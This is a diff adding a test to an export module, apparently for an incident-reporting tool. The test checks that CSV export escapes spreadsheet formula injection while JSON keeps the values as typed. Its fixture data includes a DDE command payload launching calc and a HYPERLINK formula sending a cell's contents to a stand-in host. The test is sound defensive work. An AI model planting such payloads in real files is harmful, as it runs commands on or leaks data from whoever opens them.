@@ -252,6 +252,34 @@ describe("the export file", () => {
     for (const never of [FILE_ID, "U-export", String(REPORTER)]) expect(text).not.toContain(never);
   });
 
+  it("text a spreadsheet would run as a formula is kept as text in the CSV (a leading apostrophe), and as typed in the JSON", async () => {
+    const { h } = await setup();
+    const formula = '=HYPERLINK("https://x.example/?"&B2,"Подробнее")';
+    const report = await submit(storage, REPORTER, {
+      name: "@someone",
+      place: { text: "-1 этаж" },
+      takenTo: "+cmd|' /C calc'!A0",
+      account: formula,
+    });
+    const row = records(
+      parseCsv(
+        fileOf(await exportVia(h, DOCUMENTER, "csv", "sealed"))
+          .bytes.toString("utf8")
+          .slice(1),
+      ),
+    ).find((r) => r.code === report.code);
+    expect(row).toMatchObject({
+      victim_name: "'@someone",
+      place_text: "'-1 этаж",
+      detention_taken_to: "'+cmd|' /C calc'!A0",
+      account: `'${formula}`,
+    });
+    const json = JSON.parse(fileOf(await exportVia(h, DOCUMENTER, "json", "sealed")).bytes.toString("utf8")) as Array<
+      Record<string, unknown>
+    >;
+    expect(json.find((r) => r.code === report.code)).toMatchObject({ victim_name: "@someone", account: formula });
+  });
+
   it("JSON (an array of objects) holds the same rows as the CSV", async () => {
     const { h } = await setup();
     await seed();
